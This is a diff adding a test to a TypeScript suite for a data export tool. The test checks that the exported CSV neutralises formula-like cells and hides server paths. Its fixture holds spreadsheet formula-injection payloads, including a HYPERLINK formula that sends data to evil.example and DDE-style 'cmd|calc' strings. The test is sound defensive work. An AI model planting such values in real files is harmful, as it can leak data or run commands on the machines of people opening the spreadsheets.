@@ -1,6 +1,13 @@
 /** Issue 17 hardening, small defects of the telemetry, routing explanations and CLI formatting. */
 import assert from 'node:assert/strict';
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { isAbsolute, join } from 'node:path';
 import { describe, it } from 'node:test';
+import { openBusinessDb } from '../../examples/enterprise/db.ts';
+import { csvCell } from '../../examples/enterprise/tools/csv.ts';
+import { createEnterpriseTools } from '../../examples/enterprise/tools/index.ts';
+import type { ToolContext } from '../../src/core/tool.ts';
 import type { JournalEvent } from '../../src/core/events.ts';
 import { describeEvent } from '../../src/cli/trace.ts';
 import { createRouter } from '../../src/routing/index.ts';
@@ -193,5 +200,93 @@ describe('hardening #10: no depth or shape lets a secret through the telemetry r
     const cyclic: Record<string, unknown> = { name: 'loop' };
     cyclic.self = cyclic;
     assert.deepEqual(JSON.parse(redactor.json(cyclic)), { name: 'loop', self: CIRCULAR });
+  });
+});
+
+/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') ((field += '"'), i++);
+      else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') (row.push(field), (field = ''));
+    else if (ch === '\n') (row.push(field), rows.push(row), (row = []), (field = ''));
+    else field += ch;
+  }
+  assert.equal(quoted, false, 'no quote left open');
+  assert.equal(field + row.join(''), '', 'the file ends with a line break');
+  return rows;
+}
+
+describe('hardening #13: the reference export tool', () => {
+  it('returns a relative file name and writes formula-like cells as text', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'sb-export-'));
+    const biz = openBusinessDb(join(dir, 'business.db'));
+    try {
+      const hostile = {
+        name: '=HYPERLINK("http://evil.example/?d="&B2,"Refund status")',
+        email: '+cmd|calc!A0@evil.example',
+        phone: '-2+3+cmd|calc!A0',
+        tier: '@SUM(1+1)*cmd|calc!A0',
+        language: '\t=1+1',
+        city: '\r=1+1',
+        postcode: 'Smith, "Jane"\nline 2',
+      };
+      await biz.run(
+        `INSERT INTO customers (id, name, email, phone, tier, language, city, postcode, date_of_birth, created_at)
+         VALUES ('CUS-9999', ?, ?, ?, ?, ?, ?, ?, '1990-01-01', '2025-01-01')`,
+        ...Object.values(hostile),
+      );
+      const exportDir = join(dir, 'exports');
+      const tool = createEnterpriseTools(biz, { exportDir }).all.find((t) => t.name === 'export_data');
+      assert.ok(tool);
+      const ctx = {
+        runId: 'run_x',
+        callId: 'c1',
+        idempotencyKey: 'run_x:c1',
+        attempt: 1,
+        actorId: 'ops',
+        sessionId: 's',
+        agent: 'operations',
+        signal: new AbortController().signal,
+        progress: () => {},
+        traceHeaders: {},
+      } as ToolContext;
+      const result = (await tool.run({ dataset: 'customers' }, ctx)) as { file: string; rows: number };
+      assert.ok(!isAbsolute(result.file) && !/[\\/]/.test(result.file), result.file);
+      assert.ok(!JSON.stringify(result).includes(dir), 'no server path in the result');
+      assert.deepEqual(readdirSync(exportDir), [result.file]);
+      const rows = parseCsv(readFileSync(join(exportDir, result.file), 'utf8'));
+      const header = rows[0]!;
+      assert.equal(rows.length, result.rows + 1);
+      for (const r of rows) assert.equal(r.length, header.length, 'every row has every column');
+      const row = rows.find((r) => r[0] === 'CUS-9999');
+      assert.ok(row);
+      for (const [column, value] of Object.entries(hostile)) {
+        const cell = row[header.indexOf(column)];
+        if (column === 'postcode') assert.equal(cell, value, 'ordinary text round-trips');
+        else assert.equal(cell, `'${value}`, `${column} is prefixed, so a spreadsheet shows it as text`);
+      }
+      // Numbers stay numbers.
+      const orders = (await tool.run({ dataset: 'orders' }, { ...ctx, idempotencyKey: 'run_x:c2' })) as {
+        file: string;
+      };
+      const orderRows = parseCsv(readFileSync(join(exportDir, orders.file), 'utf8'));
+      const total = orderRows[0]!.indexOf('total_cents');
+      assert.match(orderRows[1]![total]!, /^\d+$/);
+      assert.equal(csvCell(-5), '-5');
+      assert.equal(csvCell('-5'), `"'-5"`);
+      assert.equal(csvCell(null), '');
+    } finally {
+      await biz.close();
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 });
